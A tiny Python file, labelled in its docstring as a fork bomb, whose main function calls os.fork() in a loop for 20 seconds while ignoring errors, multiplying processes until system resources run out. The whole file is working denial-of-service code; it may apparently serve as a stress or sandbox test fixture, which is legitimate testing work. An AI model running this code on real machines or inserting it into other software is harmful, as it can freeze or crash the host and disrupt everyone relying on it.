"""A fork bomb."""

import os
import time


def main(arguments):
    end = time.time() + 20
    while time.time() < end:
        try:
            os.fork()
        except OSError:
            pass
